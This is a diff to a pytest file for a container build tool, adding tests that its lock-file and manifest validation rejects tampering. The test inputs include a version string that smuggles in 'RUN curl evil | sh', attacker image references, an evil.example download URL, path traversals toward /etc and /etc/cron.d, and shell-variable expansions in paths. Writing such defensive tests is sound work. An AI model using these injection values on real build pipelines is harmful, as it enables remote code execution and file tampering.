@@ -19,6 +19,7 @@ from pathlib import Path
 import pytest
 
 from builder import lock as lock_io
+from builder.lock.model import LockedGit
 from builder.model.arch import Arch
 from builder.model.errors import InputError
 from builder.plan.resolve import resolve_inputs
@@ -80,10 +81,11 @@ def reseal(path: Path, edit: dict[str, object]) -> None:
         ),
         ({"toolkit.version": "8.3.RC1\nRUN curl evil | sh"}, "toolkit.version"),
         ({"base.image": "attacker/img:latest"}, "base.image"),
-        ({"architectures.x86_64.packages.0.file": "../Dockerfile"}, "file"),
+        ({"base.image": "attacker/img@sha256:" + "a" * 64}, "base.image: the lock has 'attacker/img@sha256:"),
+        ({"architectures.x86_64.packages.0.file": "../Dockerfile"}, "must be a bare file name"),
         ({"components.0.source.path": "../../../etc"}, "components.first.source.path: the lock has"),
     ],
-    ids=["package-origin", "newline-version", "unpinned-base", "file-escape", "path-source"],
+    ids=["package-origin", "newline-version", "unpinned-base", "other-pinned-base", "file-escape", "path-source"],
 )
 def test_a_resealed_lock_cannot_override_the_manifest(
     project: Path, capsys: pytest.CaptureFixture[str], edit: dict[str, object], expected: str
@@ -427,3 +429,46 @@ def test_a_resealed_lock_cannot_point_a_pinned_package_elsewhere() -> None:
         resolve_inputs(dataclasses.replace(request, lock=tampered), prepare=False, say=print)
     assert "architectures.x86_64.packages.toolkit.url: the lock has 'https://evil.example/tk.zip'" in str(info.value)
     assert "(and 1 more)" in str(info.value)  # the sha256 too
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "field"),
+    [
+        (
+            "    build: [make]",
+            "    build: [make]\n    artifacts: [{path: '${X:-.}${X:-.}/${X:-.}'}]",
+            "components[0].artifacts[0].path",
+        ),
+        (
+            "    build: [make]",
+            "    build: [make]\n    installs: [{path: '/usr/local/$HOME'}]",
+            "components[0].installs[0].path",
+        ),
+    ],
+    ids=["artifact", "install"],
+)
+def test_docker_variables_in_copied_paths_are_refused(
+    project: Path, capsys: pytest.CaptureFixture[str], old: str, new: str, field: str
+) -> None:
+    manifest = project / "stacks" / "demo.yaml"
+    manifest.write_text(manifest.read_text().replace(old, new, 1))
+    code, _, err = cli(capsys, project, "validate", str(manifest))
+    assert code == 2 and f": {field}: " in err and "'$' and '\\' are not allowed" in err, err
+
+
+def test_a_resealed_submodule_cannot_point_outside_the_checkout() -> None:
+    source = {"kind": "git", "url": "https://h/r.git", "ref": "main", "commit": "1" * 40}
+    sub = {"path": "/etc/cron.d", "url": "https://evil/x.git", "commit": "2" * 40}
+    with pytest.raises(ValueError, match="must be a relative path"):
+        LockedGit.model_validate({**source, "submodules": [sub]})
+    for bad in ("../../x", "a/../../b", "./x", "a//b"):
+        with pytest.raises(ValueError):
+            LockedGit.model_validate({**source, "submodules": [{**sub, "path": bad}]})
+
+
+@pytest.mark.parametrize("jobs", ["0", "-1", "two"])
+def test_jobs_must_be_positive(capsys: pytest.CaptureFixture[str], jobs: str) -> None:
+    with pytest.raises(SystemExit) as info:
+        run_cli(capsys, "build", "reference", "--jobs", jobs)
+    assert info.value.code == 2
+    assert "is not a positive whole number" in capsys.readouterr().err
